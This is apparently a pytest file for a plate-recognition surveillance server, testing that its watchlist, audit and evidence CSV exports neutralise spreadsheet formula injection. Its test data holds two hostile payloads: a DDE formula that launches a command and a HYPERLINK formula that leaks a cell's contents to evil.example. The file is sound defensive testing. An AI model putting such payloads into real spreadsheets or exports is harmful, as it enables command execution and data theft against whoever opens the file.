"""Every CSV the server writes is safe to open in a spreadsheet (services/csvsafe.py): a text cell that starts
with = + - @, a tab or a carriage return gets a leading `'`, so no caller's text becomes a live formula — the
watchlist export (which still reads back through its import), /audit/export, and the evidence package's
sightings.csv. Over real HTTP with the fake pipeline (no weights)."""
from __future__ import annotations

import csv
import io
import zipfile
from types import SimpleNamespace

import httpx
import pytest
from fastapi import FastAPI

from services.csvsafe import original_cell, safe_cell
from tests.conftest import auth_headers
from tests.fakes import FakePipeline, jpeg, vehicle

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula(rows: list[list[str]]) -> bool:
    return not any(cell.startswith(FORMULA_START) for row in rows for cell in row)


@pytest.fixture
def served(fake_served: tuple[FastAPI, str]) -> tuple[FastAPI, str]:
    return fake_served


def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_compute_it_and_reads_back_exactly() -> None:
    for text in (DDE, LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@x"):
        assert safe_cell(text) == "'" + text and original_cell(str(safe_cell(text))) == text
    for text in ("沪A12345", "stolen car", " =1", "'quoted", "", "a=b"):
        assert safe_cell(text) == text and original_cell(text) == text
    assert safe_cell(-73.9) == -73.9 and safe_cell(None) is None  # numbers the server wrote stay numbers


def test_the_watchlist_export_neutralises_formulas_and_its_import_reads_them_back(served) -> None:  # noqa: ANN001
    app, url = served
    with httpx.Client(base_url=url, timeout=30, headers=auth_headers(app, "supervisor")) as api:
        wl = api.post("/watchlists", json={"name": "stolen", "kind": "plate"}).json()
        entry = {"value": "沪A12345", "match": "exact", "reason": DDE, "created_by": "@ops"}
        assert api.post(f"/watchlists/{wl['id']}/entries", json=entry).status_code == 201
        exported = api.get(f"/watchlists/{wl['id']}/export")
        assert exported.status_code == 200, exported.text
        rows = _cells(exported.text)
        assert rows[1] == ["沪A12345", "exact", "1", "'" + DDE, "'@ops"] and _no_formula(rows)

        copy = api.post("/watchlists", json={"name": "copy", "kind": "plate"}).json()
        imported = api.post(f"/watchlists/{copy['id']}/import",
                            files={"file": ("stolen.csv", exported.text.encode(), "text/csv")})
        assert imported.status_code == 201, imported.text
        back = api.get(f"/watchlists/{copy['id']}/entries").json()
    assert [(e["value"], e["reason"], e["created_by"]) for e in back] == [("沪A12345", DDE, "@ops")]


def test_the_audit_export_neutralises_a_reason_a_caller_gave(served) -> None:  # noqa: ANN001
    app, url = served
    headers = {**auth_headers(app, "admin", case=False), "X-Case": "CASE-1", "X-Reason": LINK}
    with httpx.Client(base_url=url, timeout=30, headers=headers) as api:
        assert api.get("/search/plates", params={"q": "沪A12345"}).status_code == 200
        exported = api.get("/audit/export")
    assert exported.status_code == 200, exported.text
    rows = _cells(exported.text)
    reasons = [row[rows[0].index("reason")] for row in rows[1:]]
    assert "'" + LINK in reasons and _no_formula(rows)


def test_the_evidence_csv_neutralises_a_camera_name_and_keeps_numbers(
        served, fake_pipeline: FakePipeline, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
    from services import evidence

    # The CSV is under test, not the PDF report (which needs a CJK font this machine may lack).
    monkeypatch.setattr(evidence, "_Report", lambda *_: SimpleNamespace(build=lambda: b"%PDF-"))
    app, url = served
    with httpx.Client(base_url=url, timeout=30, headers=auth_headers(app, "admin", case=False)) as api:
        assert api.post("/cameras", json={"id": "gate-1", "name": LINK, "lon": -73.9, "lat": 40.7}).status_code == 201
        fake_pipeline.script(jpeg(1), [vehicle(plate="沪A12345", plate_score=0.95)])
        stored = api.post("/frames", files={"file": ("1.jpg", jpeg(1), "image/jpeg")},
                          data={"camera_id": "gate-1", "captured_at": "2026-11-02T08:00:00+08:00"})
        assert stored.status_code == 201, stored.text
        case = api.post("/cases", json={"ref": "C-1", "title": "csv", "reason": "enquiry"}).json()
        item = {"kind": "sighting", "sighting_ids": [stored.json()["sightings"][0]["id"]]}
        assert api.post(f"/cases/{case['id']}/items", json=item).status_code == 201
        exported = api.get(f"/cases/{case['id']}/export")
    assert exported.status_code == 200, exported.text
    rows = _cells(zipfile.ZipFile(io.BytesIO(exported.content)).read("sightings.csv").decode("utf-8-sig"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["camera_name"] == "'" + LINK and row["lon"] == "-73.9" and row["plate"] == "沪A12345"
    assert _no_formula([[cell for name, cell in row.items() if name != "lon"]])
